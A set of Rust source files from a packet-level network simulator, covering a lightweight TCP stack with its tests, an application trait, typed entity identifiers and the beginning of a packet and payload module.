        self.listeners.insert(port, owner);
        Ok(())
    }

    pub fn unlisten(&mut self, port: u16) {
        self.listeners.remove(&port);
    }

    fn alloc_port(&mut self) -> u16 {
        // One full wrap of the ephemeral range, then give up loudly: an
        // unbounded loop here spins forever once every port is taken.
        let range = crate::node::EPHEMERAL_RANGE;
        let span = u32::from(*range.end() - *range.start()) + 1;
        for _ in 0..span {
            let p = self.next_ephemeral;
            self.next_ephemeral = if p == u16::MAX { 49152 } else { p + 1 };
            let in_use = self
                .conns
                .values()
                .any(|c| c.local_port == p);
            if !in_use && !self.listeners.contains_key(&p) {
                return p;
            }
        }
        panic!(
            "node {:?}: ephemeral TCP port space exhausted (all {span} ports in {}..={} are in use)",
            self.node,
            range.start(),
            range.end()
        );
    }

    /// Initiates a connection; returns the connection handle and the actions
    /// to perform (SYN transmission + handshake timer).
    pub fn connect(
        &mut self,
        owner: AppId,
        local_addr: IpAddr,
        peer: SocketAddr,
    ) -> (ConnId, Vec<TcpAction>) {
        let id = self.next_conn;
        self.next_conn += 1;
        let local_port = self.alloc_port();
        let conn = Conn {
            owner,
            local_addr,
            local_port,
            peer,
            state: ConnState::SynSent,
            next_send_seq: 1,
            unacked: FastMap::default(),
            handshake_retries: 0,
            recv_next: 1,
            recv_buffer: BTreeMap::new(),
        };
        self.by_tuple.insert((local_port, peer), id);
        self.conns.insert(id, conn);
        let actions = vec![
            TcpAction::Send(self.seg_packet(id, SegKind::Syn)),
            TcpAction::SetRto {
                conn: id,
                seq: 0,
                after: rto_for(0),
            },
        ];
        (ConnId { node: self.node(), id }, actions)
    }

    /// Sends application data on an established connection.
    pub fn send(
        &mut self,
        conn: ConnId,
        payload: Payload,
        bytes: u32,
    ) -> Result<Vec<TcpAction>, TcpError> {
        let c = self.conns.get_mut(conn.id).ok_or(TcpError::NotConnected)?;
        if c.state != ConnState::Established {
            return Err(TcpError::NotConnected);
        }
        let seq = c.next_send_seq;
        c.next_send_seq += 1;
        c.unacked.insert(
            seq,
            UnackedSeg {
                payload: payload.clone(),
                bytes,
                retries: 0,
            },
        );
        Ok(vec![
            TcpAction::Send(self.seg_packet(conn.id, SegKind::Data { seq, payload, bytes })),
            TcpAction::SetRto {
                conn: conn.id,
                seq,
                after: rto_for(0),
            },
        ])
    }

    /// Closes a connection, sending a best-effort FIN.
    pub fn close(&mut self, conn: ConnId) -> Vec<TcpAction> {
        if self.conns.get(conn.id).is_none() {
            return Vec::new();
        }
        let pkt = self.seg_packet(conn.id, SegKind::Fin);
        self.remove_conn(conn.id);
        vec![TcpAction::Send(pkt)]
    }

    /// Closes every connection owned by `owner` (best-effort FIN each) and
    /// releases its listeners — the teardown a host kernel performs when a
    /// process dies. Without it a removed app's connections linger as
    /// zombies whose ACKs keep the peer believing the app is alive.
    pub fn close_owned_by(&mut self, owner: AppId) -> Vec<TcpAction> {
        self.listeners.retain(|_, o| *o != owner);
        let node = self.node();
        // Slab iteration is ascending by conn id — a stable, deterministic
        // order for the FINs this emits onto the wire.
        let ids: Vec<u64> = self
            .conns
            .iter()
            .filter(|(_, c)| c.owner == owner)
            .map(|(id, _)| id)
            .collect();
        ids.into_iter()
            .flat_map(|id| self.close(ConnId { node, id }))
            .collect()
    }

    /// Whether the connection exists and is established.
    pub fn is_established(&self, conn: ConnId) -> bool {
        self.conns
            .get(conn.id)
            .is_some_and(|c| c.state == ConnState::Established)
    }

    fn remove_conn(&mut self, id: u64) -> Option<Box<Conn>> {
        let c = self.conns.remove(id)?;
        self.by_tuple.remove(&(c.local_port, c.peer));
        Some(c)
    }

    fn seg_packet(&self, id: u64, kind: SegKind) -> Packet {
        let c = self.conns.get(id).expect("conn exists");
        let payload_bytes = match &kind {
            SegKind::Data { bytes, .. } => *bytes,
            _ => 0,
        };
        Packet::new(
            SocketAddr::new(c.local_addr, c.local_port),
            c.peer,
            TransportProto::Tcp,
            Payload::new(TcpSeg { kind }),
            TCP_HEADER_BYTES,
            payload_bytes,
        )
    }

    fn rst_packet(local: SocketAddr, peer: SocketAddr) -> Packet {
        Packet::new(
            local,
            peer,
            TransportProto::Tcp,
            Payload::new(TcpSeg { kind: SegKind::Rst }),
            TCP_HEADER_BYTES,
            0,
        )
    }

    /// Handles an inbound segment addressed to this node.
    pub fn on_segment(&mut self, pkt: &Packet) -> Vec<TcpAction> {
        let Some(seg) = pkt.payload.get::<TcpSeg>() else {
            return Vec::new();
        };
        let local_port = pkt.dst.port();
        let peer = pkt.src;
        let tuple = (local_port, peer);
        let node = self.node();

        match (&seg.kind, self.by_tuple.get(&tuple).copied()) {
            (SegKind::Syn, existing) => {
                if let Some(id) = existing {
                    // Duplicate SYN (retransmission): re-send SYN-ACK.
                    return vec![TcpAction::Send(self.seg_packet(id, SegKind::SynAck))];
                }
                let Some(&owner) = self.listeners.get(&local_port) else {
                    return vec![TcpAction::Send(Self::rst_packet(
                        SocketAddr::new(pkt.dst.ip(), local_port),
                        peer,
                    ))];
                };
                let id = self.next_conn;
                self.next_conn += 1;
                self.conns.insert(
                    id,
                    Conn {
                        owner,
                        local_addr: pkt.dst.ip(),
                        local_port,
                        peer,
                        state: ConnState::SynReceived,
                        next_send_seq: 1,
                        unacked: FastMap::default(),
                        handshake_retries: 0,
                        recv_next: 1,
                        recv_buffer: BTreeMap::new(),
                    },
                );
                self.by_tuple.insert(tuple, id);
                vec![
                    TcpAction::Send(self.seg_packet(id, SegKind::SynAck)),
                    TcpAction::SetRto {
                        conn: id,
                        seq: 0,
                        after: rto_for(0),
                    },
                ]
            }
            (SegKind::SynAck, Some(id)) => {
                let mut actions = vec![TcpAction::Send(self.seg_packet(id, SegKind::HandshakeAck))];
                let c = self.conns.get_mut(id).expect("tuple-mapped conn exists");
                if c.state == ConnState::SynSent {
                    c.state = ConnState::Established;
                    actions.push(TcpAction::Event(
                        c.owner,
                        TcpEvent::Connected {
                            conn: ConnId { node, id },
                        },
                    ));
                }
                actions
            }
            (SegKind::HandshakeAck, Some(id)) => {
                let c = self.conns.get_mut(id).expect("tuple-mapped conn exists");
                if c.state == ConnState::SynReceived {
                    c.state = ConnState::Established;
                    vec![TcpAction::Event(
                        c.owner,
                        TcpEvent::Incoming {
                            conn: ConnId { node, id },
                            from: peer,
                        },
                    )]
                } else {
                    Vec::new()
                }
            }
            (SegKind::Data { seq, payload, bytes }, Some(id)) => {
                let seq = *seq;
                let bytes = *bytes;
                let payload = payload.clone();
                let mut actions = vec![TcpAction::Send(
                    self.seg_packet(id, SegKind::Ack { seq }),
                )];
                let c = self.conns.get_mut(id).expect("tuple-mapped conn exists");
                // Receiving data implies the peer completed the handshake
                // (its HandshakeAck may have been lost).
                if c.state == ConnState::SynReceived {
                    c.state = ConnState::Established;
                    let owner = c.owner;
                    actions.push(TcpAction::Event(
                        owner,
                        TcpEvent::Incoming {
                            conn: ConnId { node, id },
                            from: peer,
                        },
                    ));
                }
                let c = self.conns.get_mut(id).expect("still exists");
                if seq >= c.recv_next {
                    c.recv_buffer.entry(seq).or_insert((payload, bytes));
                    // Deliver any now-consecutive prefix.
                    while let Some((p, b)) = c.recv_buffer.remove(&c.recv_next) {
                        let owner = c.owner;
                        let conn = ConnId { node, id };
                        c.recv_next += 1;
                        actions.push(TcpAction::Event(
                            owner,
                            TcpEvent::Data {
                                conn,
                                payload: p,
                                bytes: b,
                            },
                        ));
                    }
                }
                actions
            }
            (SegKind::Ack { seq }, Some(id)) => {
                let c = self.conns.get_mut(id).expect("tuple-mapped conn exists");
                c.unacked.remove(seq);
                Vec::new()
            }
            (SegKind::Fin, Some(id)) => {
                let c = self.remove_conn(id).expect("tuple-mapped conn exists");
                vec![TcpAction::Event(
                    c.owner,
                    TcpEvent::Closed {
                        conn: ConnId { node, id },
                    },
                )]
            }
            (SegKind::Rst, Some(id)) => {
                let c = self.remove_conn(id).expect("tuple-mapped conn exists");
                let ev = if c.state == ConnState::SynSent {
                    TcpEvent::ConnectFailed {
                        conn: ConnId { node, id },
                    }
                } else {
                    TcpEvent::Closed {
                        conn: ConnId { node, id },
                    }
                };
                vec![TcpAction::Event(c.owner, ev)]
            }
            (SegKind::Rst, None) | (SegKind::Fin, None) | (SegKind::Ack { .. }, None) => Vec::new(),
            (_, None) => {
                // Segment for an unknown connection: refuse.
                vec![TcpAction::Send(Self::rst_packet(
                    SocketAddr::new(pkt.dst.ip(), local_port),
                    peer,
                ))]
            }
        }
    }

    /// Handles a retransmission-timer expiry.
    pub fn on_rto(&mut self, conn: u64, seq: u64) -> Vec<TcpAction> {
        let node = self.node();
        let Some(c) = self.conns.get_mut(conn) else {
            return Vec::new();
        };
        if seq == 0 {
            // Handshake timer.
            match c.state {
                ConnState::SynSent | ConnState::SynReceived => {
                    c.handshake_retries += 1;
                    if c.handshake_retries > MAX_RETRIES {
                        let c = self.remove_conn(conn).expect("exists");
                        let ev = if c.state == ConnState::SynSent {
                            TcpEvent::ConnectFailed {
                                conn: ConnId { node, id: conn },
                            }
                        } else {
                            TcpEvent::Closed {
                                conn: ConnId { node, id: conn },
                            }
                        };
                        return vec![TcpAction::Event(c.owner, ev)];
                    }
                    let retries = c.handshake_retries;
                    let kind = if c.state == ConnState::SynSent {
                        SegKind::Syn
                    } else {
                        SegKind::SynAck
                    };
                    vec![
                        TcpAction::Send(self.seg_packet(conn, kind)),
                        TcpAction::SetRto {
                            conn,
                            seq: 0,
                            after: rto_for(retries),
                        },
                    ]
                }
                ConnState::Established => Vec::new(),
            }
        } else {
            let Some(unacked) = c.unacked.get_mut(&seq) else {
                return Vec::new(); // Acked in the meantime.
            };
            unacked.retries += 1;
            if unacked.retries > MAX_RETRIES {
                let c = self.remove_conn(conn).expect("exists");
                return vec![TcpAction::Event(
                    c.owner,
                    TcpEvent::Closed {
                        conn: ConnId { node, id: conn },
                    },
                )];
            }
            let retries = unacked.retries;
            let payload = unacked.payload.clone();
            let bytes = unacked.bytes;
            vec![
                TcpAction::Send(self.seg_packet(conn, SegKind::Data { seq, payload, bytes })),
                TcpAction::SetRto {
                    conn,
                    seq,
                    after: rto_for(retries),
                },
            ]
        }
    }

    /// Tears down all connections without notifying local apps (used when the
    /// node goes down; apps learn via `on_node_down`).
    pub fn reset_all(&mut self) {
        self.conns.clear();
        self.by_tuple.clear();
    }

    /// Number of live connections (any state).
    pub fn conn_count(&self) -> usize {
        self.conns.len()
    }

    /// Folds the whole stack — listeners, every live connection, and the
    /// id/port allocators — into a checkpoint digest. Map-backed state is
    /// visited in sorted key order so the digest is iteration-order-free.
    pub fn state_digest(&self, h: &mut crate::digest::StateHasher) {
        let mut listeners: Vec<(u16, AppId)> =
            self.listeners.iter().map(|(p, a)| (*p, *a)).collect();
        listeners.sort_unstable_by_key(|(p, _)| *p);
        h.write_usize(listeners.len());
        for (port, owner) in listeners {
            h.write_u32(u32::from(port));
            h.write_usize(owner.node().index());
            h.write_usize(owner.slot());
        }
        h.write_usize(self.conns.len());
        for (id, conn) in self.conns.iter() {
            h.write_u64(id);
            h.write_usize(conn.owner.node().index());
            h.write_usize(conn.owner.slot());
            h.write_ip(conn.local_addr);
            h.write_u32(u32::from(conn.local_port));
            h.write_ip(conn.peer.ip());
            h.write_u32(u32::from(conn.peer.port()));
            h.write_bytes(&[match conn.state {
                ConnState::SynSent => 0,
                ConnState::SynReceived => 1,
                ConnState::Established => 2,
            }]);
            h.write_u64(conn.next_send_seq);
            let mut unacked: Vec<(u64, u32, u32)> = conn
                .unacked
                .iter()
                .map(|(seq, seg)| (*seq, seg.bytes, seg.retries))
                .collect();
            unacked.sort_unstable_by_key(|(seq, ..)| *seq);
            h.write_usize(unacked.len());
            for (seq, bytes, retries) in unacked {
                h.write_u64(seq);
                h.write_u32(bytes);
                h.write_u32(retries);
            }
            h.write_u32(conn.handshake_retries);
            h.write_u64(conn.recv_next);
            h.write_usize(conn.recv_buffer.len());
            for (seq, (_, bytes)) in &conn.recv_buffer {
                h.write_u64(*seq);
                h.write_u32(*bytes);
            }
        }
        h.write_u64(self.next_conn);
        h.write_u32(u32::from(self.next_ephemeral));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn app(node: u32) -> AppId {
        AppId {
            node: NodeId::from_index(node as usize),
            slot: 0,
        }
    }

    fn addr(last: u8, port: u16) -> SocketAddr {
        SocketAddr::new(
            IpAddr::V4(std::net::Ipv4Addr::new(10, 0, 0, last)),
            port,
        )
    }

    /// Drives segments between two stacks until quiescent, collecting events.
    fn pump(
        a: &mut TcpStack,
        a_ip: IpAddr,
        b: &mut TcpStack,
        _b_ip: IpAddr,
        initial: Vec<TcpAction>,
    ) -> Vec<(AppId, String)> {
        let mut events = Vec::new();
        let mut pending = initial;
        let mut rounds = 0;
        while !pending.is_empty() {
            rounds += 1;
            assert!(rounds < 100, "handshake did not quiesce");
            let mut next = Vec::new();
            for action in pending {
                match action {
                    TcpAction::Send(pkt) => {
                        let dst_stack = if pkt.dst.ip() == a_ip { &mut *a } else { &mut *b };
                        next.extend(dst_stack.on_segment(&pkt));
                    }
                    TcpAction::Event(owner, ev) => {
                        events.push((owner, format!("{ev:?}")));
                    }
                    TcpAction::SetRto { .. } => {}
                }
            }
            pending = next;
        }
        events
    }

    #[test]
    fn handshake_and_data() {
        let a_ip = addr(1, 0).ip();
        let b_ip = addr(2, 0).ip();
        let mut client = TcpStack::new(NodeId::from_index(0));
        let mut server = TcpStack::new(NodeId::from_index(1));
        server.listen(23, app(1)).expect("listen");

        let (conn, actions) = client.connect(app(0), a_ip, addr(2, 23));
        let events = pump(&mut client, a_ip, &mut server, b_ip, actions);
        assert!(events.iter().any(|(_, e)| e.contains("Connected")));
        assert!(events.iter().any(|(_, e)| e.contains("Incoming")));
        assert!(client.is_established(conn));

        let actions = client
            .send(conn, Payload::new(42u32), 4)
            .expect("established");
        let events = pump(&mut client, a_ip, &mut server, b_ip, actions);
        assert!(events.iter().any(|(_, e)| e.contains("Data")));
    }

    #[test]
    fn syn_to_closed_port_fails() {
        let a_ip = addr(1, 0).ip();
        let b_ip = addr(2, 0).ip();
        let mut client = TcpStack::new(NodeId::from_index(0));
        let mut server = TcpStack::new(NodeId::from_index(1));
        let (_conn, actions) = client.connect(app(0), a_ip, addr(2, 9999));
        let events = pump(&mut client, a_ip, &mut server, b_ip, actions);
        assert!(events.iter().any(|(_, e)| e.contains("ConnectFailed")));
    }

    #[test]
    fn listen_twice_is_port_in_use() {
        let mut s = TcpStack::new(NodeId::from_index(0));
        s.listen(23, app(0)).expect("first listen");
        assert_eq!(s.listen(23, app(0)), Err(TcpError::PortInUse));
    }

    #[test]
    fn send_on_unknown_conn_errors() {
        let mut s = TcpStack::new(NodeId::from_index(0));
        let bogus = ConnId {
            node: NodeId::from_index(0),
            id: 77,
        };
        assert_eq!(
            s.send(bogus, Payload::empty(), 0).unwrap_err(),
            TcpError::NotConnected
        );
    }

    #[test]
    fn out_of_order_data_is_buffered_and_delivered_in_order() {
        let a_ip = addr(1, 0).ip();
        let b_ip = addr(2, 0).ip();
        let mut client = TcpStack::new(NodeId::from_index(0));
        let mut server = TcpStack::new(NodeId::from_index(1));
        server.listen(23, app(1)).expect("listen");
        let (conn, actions) = client.connect(app(0), a_ip, addr(2, 23));
        pump(&mut client, a_ip, &mut server, b_ip, actions);

        // Craft segments 1 and 2, deliver 2 first.
        let acts1 = client.send(conn, Payload::new(1u32), 4).expect("send 1");
        let acts2 = client.send(conn, Payload::new(2u32), 4).expect("send 2");
        let pkt_of = |acts: &[TcpAction]| -> Packet {
            acts.iter()
                .find_map(|a| match a {
                    TcpAction::Send(p) => Some(p.clone()),
                    _ => None,
                })
                .expect("send action present")
        };
        let p1 = pkt_of(&acts1);
        let p2 = pkt_of(&acts2);

        let mut delivered = Vec::new();
        for acts in [server.on_segment(&p2), server.on_segment(&p1)] {
            for a in acts {
                if let TcpAction::Event(_, TcpEvent::Data { payload, .. }) = a {
                    delivered.push(*payload.get::<u32>().expect("u32 payload"));
                }
            }
        }
        assert_eq!(delivered, vec![1, 2]);
    }

    #[test]
    fn rto_retransmits_then_gives_up() {
        let a_ip = addr(1, 0).ip();
        let mut client = TcpStack::new(NodeId::from_index(0));
        let (conn, _actions) = client.connect(app(0), a_ip, addr(2, 23));
        // Fire the handshake timer past the retry limit.
        let mut failed = false;
        for _ in 0..=MAX_RETRIES {
            let acts = client.on_rto(conn.id, 0);
            if acts
                .iter()
                .any(|a| matches!(a, TcpAction::Event(_, TcpEvent::ConnectFailed { .. })))
            {
                failed = true;
                break;
            }
            assert!(acts
                .iter()
                .any(|a| matches!(a, TcpAction::Send(_))), "should retransmit SYN");
        }
        assert!(failed, "connect should fail after {MAX_RETRIES} retries");
        assert_eq!(client.conn_count(), 0);
    }

    #[test]
    fn duplicate_data_is_acked_but_not_redelivered() {
        let a_ip = addr(1, 0).ip();
        let b_ip = addr(2, 0).ip();
        let mut client = TcpStack::new(NodeId::from_index(0));
        let mut server = TcpStack::new(NodeId::from_index(1));
        server.listen(23, app(1)).expect("listen");
        let (conn, actions) = client.connect(app(0), a_ip, addr(2, 23));
        pump(&mut client, a_ip, &mut server, b_ip, actions);

        let acts = client.send(conn, Payload::new(9u8), 1).expect("send");
        let pkt = acts
            .iter()
            .find_map(|a| match a {
                TcpAction::Send(p) => Some(p.clone()),
                _ => None,
            })
            .expect("send action");
        let deliveries = |acts: &[TcpAction]| {
            acts.iter()
                .filter(|a| matches!(a, TcpAction::Event(_, TcpEvent::Data { .. })))
                .count()
        };
        assert_eq!(deliveries(&server.on_segment(&pkt)), 1);
        assert_eq!(deliveries(&server.on_segment(&pkt)), 0, "dup not redelivered");
    }

    #[test]
    fn fin_closes_peer() {
        let a_ip = addr(1, 0).ip();
        let b_ip = addr(2, 0).ip();
        let mut client = TcpStack::new(NodeId::from_index(0));
        let mut server = TcpStack::new(NodeId::from_index(1));
        server.listen(23, app(1)).expect("listen");
        let (conn, actions) = client.connect(app(0), a_ip, addr(2, 23));
        pump(&mut client, a_ip, &mut server, b_ip, actions);
        assert_eq!(server.conn_count(), 1);

        let actions = client.close(conn);
        let events = pump(&mut client, a_ip, &mut server, b_ip, actions);
        assert!(events.iter().any(|(_, e)| e.contains("Closed")));
        assert_eq!(server.conn_count(), 0);
        assert_eq!(client.conn_count(), 0);
    }

    #[test]
    fn reset_all_clears_conns() {
        let a_ip = addr(1, 0).ip();
        let mut client = TcpStack::new(NodeId::from_index(0));
        let (_, _) = client.connect(app(0), a_ip, addr(2, 23));
        assert_eq!(client.conn_count(), 1);
        client.reset_all();
        assert_eq!(client.conn_count(), 0);
    }

    /// A throwaway connection for direct slab tests.
    fn dummy_conn(tag: u64) -> Conn {
        Conn {
            owner: app(0),
            local_addr: IpAddr::V4(std::net::Ipv4Addr::new(10, 0, 0, 1)),
            local_port: 49152,
            peer: addr(2, 80),
            state: ConnState::Established,
            next_send_seq: tag,
            unacked: FastMap::default(),
            handshake_retries: 0,
            recv_next: 0,
            recv_buffer: BTreeMap::new(),
        }
    }

    #[test]
    fn slab_reuses_slots_and_iterates_by_id() {
        let mut slab = ConnSlab::default();
        slab.insert(1, dummy_conn(1));
        slab.insert(2, dummy_conn(2));
        slab.insert(3, dummy_conn(3));
        assert!(slab.remove(2).is_some());
        // Id 4 reuses id 2's slot (LIFO free list), but iteration stays
        // ascending by id regardless of slot layout.
        slab.insert(4, dummy_conn(4));
        assert_eq!(slab.slot_capacity(), 3);
        let ids: Vec<u64> = slab.iter().map(|(id, _)| id).collect();
        assert_eq!(ids, vec![1, 3, 4]);
        assert_eq!(slab.get(4).map(|c| c.next_send_seq), Some(4));
        assert!(slab.get(2).is_none());
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        /// Long insert/remove churn keeps slab memory proportional to the
        /// peak number of simultaneously live connections, not to the total
        /// number of ids ever allocated (ids are never reused, slots are).
        #[test]
        fn slab_churn_memory_tracks_peak_liveness(
            ops in proptest::collection::vec(0u8..4, 1..400),
        ) {
            let mut slab = ConnSlab::default();
            let mut live: Vec<u64> = Vec::new();
            let mut next_id = 1u64;
            let mut peak_live = 0usize;
            for op in ops {
                if op == 0 && !live.is_empty() {
                    // Remove the oldest live conn (op value keeps the mix
                    // ~3:1 insert-heavy so liveness actually churns).
                    let id = live.remove(0);
                    prop_assert!(slab.remove(id).is_some());
                } else {
                    let id = next_id;
                    next_id += 1;
                    slab.insert(id, dummy_conn(id));
                    live.push(id);
                }
                peak_live = peak_live.max(live.len());
                prop_assert_eq!(slab.len(), live.len());
            }
            // The memory bound under test: total slots ever allocated never
            // exceeds peak simultaneous liveness, even though `next_id` can
            // be far larger.
            prop_assert!(
                slab.slot_capacity() <= peak_live,
                "slots {} > peak live {}",
                slab.slot_capacity(),
                peak_live
            );
            // Determinism of the ordered view: ascending ids, exactly the
            // live set.
            let ids: Vec<u64> = slab.iter().map(|(id, _)| id).collect();
            prop_assert_eq!(ids, live);
        }
    }
}
