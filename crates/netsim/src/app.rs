//! The application trait.
//!
//! An [`Application`] is a state machine installed on a node — the analogue
//! of a process inside a Docker container, or an NS-3 `Application`. It
//! reacts to lifecycle callbacks, inbound packets, connection events, and
//! timers, and acts on the world through the [`Ctx`] handle.
//!
//! [`Ctx`]: crate::sim::Ctx

use crate::digest::StateHasher;
use crate::fork::ForkMap;
use crate::packet::Packet;
use crate::sim::Ctx;
use crate::tcp::TcpEvent;
use std::any::Any;

/// A simulated application (process) running on a node.
///
/// All methods have no-op defaults so implementations only override the
/// callbacks they care about. Applications are also [`Any`] so the host
/// program can downcast them after (or during) a run to read results — e.g.
/// the TServer sink exposes its per-second byte counters this way.
pub trait Application: Any {
    /// Short human-readable name (shown in traces and process tables).
    fn name(&self) -> &str {
        "app"
    }

    /// Called once when the application starts (node boot or dynamic spawn).
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        let _ = ctx;
    }

    /// Called for each UDP packet delivered to a port this app has bound.
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, packet: &Packet) {
        let _ = (ctx, packet);
    }

    /// Called for tcp-lite connection events owned by this app.
    fn on_tcp(&mut self, ctx: &mut Ctx<'_>, event: TcpEvent) {
        let _ = (ctx, event);
    }

    /// Called when a timer set via [`Ctx::set_timer`] fires.
    ///
    /// [`Ctx::set_timer`]: crate::sim::Ctx::set_timer
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        let _ = (ctx, token);
    }

    /// Called when this app's node goes down (churn departure). Transport
    /// state has already been torn down.
    fn on_node_down(&mut self, ctx: &mut Ctx<'_>) {
        let _ = ctx;
    }

    /// Called when this app's node comes back up (churn rejoin).
    fn on_node_up(&mut self, ctx: &mut Ctx<'_>) {
        let _ = ctx;
    }

    /// Folds this application's mutable state into a checkpoint digest.
    ///
    /// The default contributes nothing, which is sound for stateless apps;
    /// stateful apps should fold every field that influences future
    /// behavior so checkpoint verification can catch replay divergence in
    /// the application layer, not just the network layers.
    fn state_digest(&self, hasher: &mut StateHasher) {
        let _ = hasher;
    }

    /// Deep-clones this application into a forked world.
    ///
    /// Plain-state apps return a boxed clone; apps holding shared handles
    /// (e.g. a firmware container) translate them through the [`ForkMap`]
    /// so the fork never aliases parent state. The default returns `None`,
    /// which makes [`Simulator::fork`] fail naming the app — forkability
    /// is opt-in precisely so an unexamined app cannot be silently
    /// shallow-copied into a fork.
    ///
    /// [`Simulator::fork`]: crate::sim::Simulator::fork
    fn fork(&self, map: &ForkMap) -> Option<Box<dyn Application>> {
        let _ = map;
        None
    }
}

/// A no-op application, useful as a placeholder.
#[derive(Debug, Default, Clone, Copy)]
pub struct NullApp;

impl Application for NullApp {
    fn name(&self) -> &str {
        "null"
    }

    fn fork(&self, _map: &ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(*self))
    }
}
