//! Typed identifiers for simulation entities.
//!
//! Newtype indices ([`NodeId`], [`IfaceId`], [`LinkId`], [`ChannelId`],
//! [`AppId`]) keep the arena-based simulator core type-safe: a node index can
//! never be confused with a link index.

use std::fmt;

macro_rules! id_type {
    ($(#[$meta:meta])* $name:ident, $tag:expr) => {
        $(#[$meta])*
        #[derive(Debug, Default, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
        pub struct $name(pub(crate) u32);

        impl $name {
            /// The raw index of this identifier.
            pub const fn index(self) -> usize {
                self.0 as usize
            }

            /// Creates an identifier from a raw index.
            ///
            /// Intended for deserialization and test scaffolding; passing an
            /// index not handed out by the simulator yields lookups that
            /// panic or miss.
            pub const fn from_index(index: usize) -> Self {
                $name(index as u32)
            }
        }

        impl fmt::Display for $name {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                write!(f, "{}{}", $tag, self.0)
            }
        }
    };
}

id_type!(
    /// Identifies a simulated node (host, router, or ghost node).
    NodeId,
    "n"
);
id_type!(
    /// Identifies a network interface installed on a node.
    IfaceId,
    "if"
);
id_type!(
    /// Identifies a point-to-point link.
    LinkId,
    "l"
);
id_type!(
    /// Identifies a shared (Wi-Fi-like) channel.
    ChannelId,
    "ch"
);

/// Identifies an application instance installed on a node.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct AppId {
    pub(crate) node: NodeId,
    pub(crate) slot: u32,
}

impl AppId {
    /// The node this application runs on.
    pub const fn node(self) -> NodeId {
        self.node
    }

    /// The application slot within its node.
    pub const fn slot(self) -> usize {
        self.slot as usize
    }
}

impl fmt::Display for AppId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/app{}", self.node, self.slot)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_is_nonempty_and_tagged() {
        assert_eq!(NodeId(3).to_string(), "n3");
        assert_eq!(IfaceId(1).to_string(), "if1");
        assert_eq!(LinkId(0).to_string(), "l0");
        assert_eq!(ChannelId(9).to_string(), "ch9");
        let app = AppId { node: NodeId(2), slot: 1 };
        assert_eq!(app.to_string(), "n2/app1");
    }

    #[test]
    fn index_roundtrip() {
        let n = NodeId::from_index(7);
        assert_eq!(n.index(), 7);
    }

    #[test]
    fn ids_are_ordered_and_hashable() {
        use std::collections::HashSet;
        let mut s = HashSet::new();
        s.insert(NodeId(1));
        s.insert(NodeId(1));
        assert_eq!(s.len(), 1);
        assert!(NodeId(1) < NodeId(2));
    }
}
