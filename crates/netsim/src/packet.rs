//! Packets and typed payloads.
//!
//! `netsim` is a packet-level simulator: a [`Packet`] carries real addressing
//! and size information (which drive timing, queueing, and loss), while its
//! [`Payload`] is a typed, reference-counted simulation message rather than
//! encoded bytes. Higher layers downcast payloads to their own protocol
//! types. This is the standard packet-level-simulation compromise: wire
//! *behaviour* is faithful, wire *encoding* is elided.

use std::any::Any;
use std::fmt;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

/// Transport protocol of a packet.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum TransportProto {
    /// Connectionless datagrams.
    Udp,
    /// Segments of the light reliable stream transport ("tcp-lite").
    Tcp,
}

impl fmt::Display for TransportProto {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TransportProto::Udp => f.write_str("udp"),
            TransportProto::Tcp => f.write_str("tcp"),
        }
    }
}

/// An opaque, cheaply clonable, typed payload.
///
/// # Examples
///
/// ```
/// use netsim::Payload;
///
/// let p = Payload::new(String::from("hello"));
/// assert_eq!(p.get::<String>().map(String::as_str), Some("hello"));
/// assert!(p.get::<u32>().is_none());
/// ```
#[derive(Clone, Default)]
pub struct Payload(Option<Arc<dyn Any + Send + Sync>>);

impl Payload {
    /// An empty payload (e.g. pure flood filler or control segments).
    pub const fn empty() -> Self {
        Payload(None)
    }

    /// Wraps a typed message.
    pub fn new<T: Any + Send + Sync>(value: T) -> Self {
        Payload(Some(Arc::new(value)))
    }

    /// Downcasts to a concrete message type.
    pub fn get<T: Any + Send + Sync>(&self) -> Option<&T> {
        self.0.as_deref().and_then(|v| v.downcast_ref::<T>())
    }

    /// Whether this payload carries no message.
    pub fn is_empty(&self) -> bool {
        self.0.is_none()
    }
}

impl fmt::Debug for Payload {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.0 {
            None => f.write_str("Payload(empty)"),
            Some(_) => f.write_str("Payload(typed)"),
        }
    }
}

/// Default IPv4/IPv6-agnostic header overhead we charge per packet
/// (IP + UDP headers, rounded).
pub const DEFAULT_HEADER_BYTES: u32 = 28;

/// Default time-to-live for newly built packets.
pub const DEFAULT_TTL: u8 = 64;

/// The immutable body of a packet: addressing, protocol, payload, and the
/// byte counts that drive timing. Shared by every copy of a [`Packet`]
/// through an [`Arc`], so broadcast fan-out, Wi-Fi retransmissions, and
/// delivery all alias one allocation instead of deep-copying.
#[derive(Debug)]
pub struct PacketBody {
    /// Source address and port.
    pub src: SocketAddr,
    /// Destination address and port.
    pub dst: SocketAddr,
    /// Transport protocol.
    pub proto: TransportProto,
    /// Typed simulation payload.
    pub payload: Payload,
    /// Bytes charged for L3/L4 headers.
    pub header_bytes: u32,
    /// Bytes charged for the payload.
    pub payload_bytes: u32,
}

/// A simulated network packet.
///
/// Cloning is `O(1)`: the body is `Arc`-shared and only the per-hop state
/// (`ttl`, `id`) lives inline. The body is immutable after construction —
/// mutating a sent packet is impossible by construction, which the aliasing
/// tests rely on. Read access goes through `Deref`, so `packet.dst`,
/// `packet.payload`, etc. read naturally.
///
/// Writing a body field does not compile — there is no `DerefMut`:
///
/// ```compile_fail
/// use netsim::{Packet, Payload};
/// let mut p = Packet::udp(
///     "10.0.0.1:1".parse().unwrap(),
///     "10.0.0.2:2".parse().unwrap(),
///     Payload::empty(),
///     100,
/// );
